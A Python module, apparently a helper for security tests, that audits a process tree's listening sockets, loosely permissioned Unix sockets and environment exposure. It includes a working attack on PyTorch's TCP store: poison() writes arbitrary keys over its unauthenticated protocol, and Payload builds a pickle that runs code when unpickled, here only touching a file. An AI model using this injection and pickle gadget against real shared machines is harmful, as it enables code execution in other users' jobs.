"""What a process tree listens on, and an attack on torch's TCP store as another user of the machine makes it."""

from __future__ import annotations

import base64
import os
import pickle
import socket
import struct
from contextlib import suppress
from dataclasses import dataclass
from ipaddress import IPv6Address, ip_address
from pathlib import Path

import psutil

_MAGIC = 0x3C85F7CE
_VALIDATE, _SET = 0, 1


@dataclass(frozen=True, order=True)
class Listener:
    """A TCP or UDP socket that takes what comes to it."""

    address: str
    port: int
    of: str

    @property
    def is_loopback(self) -> bool:
        """Whether no other machine reaches it."""
        address = ip_address(self.address)
        if isinstance(address, IPv6Address) and address.ipv4_mapped:
            address = address.ipv4_mapped
        return address.is_loopback


class Payload:
    """Runs when it is unpickled: leaves a file."""

    def __init__(self, file: Path) -> None:
        self.file = file

    def __reduce__(self) -> tuple[object, ...]:
        return Path.touch, (self.file,)

    @property
    def state(self) -> bytes:
        """As the agents of a c10d rendezvous keep their state."""
        return base64.b64encode(pickle.dumps(self))


def tree(root: int | None = None) -> list[psutil.Process]:
    """A process, this one by default, and all below it."""
    above = psutil.Process(root)
    return [above, *above.children(recursive=True)]


def listeners(processes: list[psutil.Process]) -> set[Listener]:
    """What other processes, or machines, can send something to."""
    found = set()
    for process in processes:
        with suppress(psutil.NoSuchProcess, psutil.ZombieProcess):
            for one in process.net_connections(kind="inet"):
                if one.laddr and not one.raddr and (one.status == psutil.CONN_LISTEN or one.type == socket.SOCK_DGRAM):
                    found.add(Listener(one.laddr.ip, one.laddr.port, " ".join(process.cmdline())[-80:]))
    return found


def open_unix_sockets(processes: list[psutil.Process]) -> set[str]:
    """Names of Unix sockets that are not in a folder that their user alone can enter."""
    found = set()
    for process in processes:
        with suppress(psutil.NoSuchProcess, psutil.ZombieProcess):
            names = {str(one.laddr) for one in process.net_connections(kind="unix") if one.laddr}
            found |= {name for name in names if not _is_private(Path(name).parent)}
    return found


def showing(processes: list[psutil.Process], word: str) -> dict[str, list[str]]:
    """Modules of the processes that have a word in their command line, or in their environment."""
    found: dict[str, list[str]] = {"command lines": [], "environments": []}
    for process in processes:
        with suppress(psutil.NoSuchProcess, psutil.ZombieProcess):
            command = process.cmdline()
            if word in " ".join(command):
                found["command lines"].append(command[2])
            if any(word in value for value in process.environ().values()):
                found["environments"].append(command[2])
    return found


def poison(host: str, port: int, key: str, value: bytes) -> None:
    """Set a key of a TCP store as any stranger can; harmless where something else listens."""
    name = f"/{key}".encode()
    with suppress(OSError), socket.create_connection((host, port), timeout=5) as link:
        link.sendall(struct.pack("<BI", _VALIDATE, _MAGIC))
        link.sendall(struct.pack("<BQ", _SET, len(name)) + name + struct.pack("<Q", len(value)) + value)
        link.settimeout(0.2)
        link.recv(1)


def _is_private(folder: Path) -> bool:
    state = folder.stat() if folder.is_absolute() and folder.is_dir() else None
    return state is not None and state.st_uid == os.getuid() and not state.st_mode & 0o077
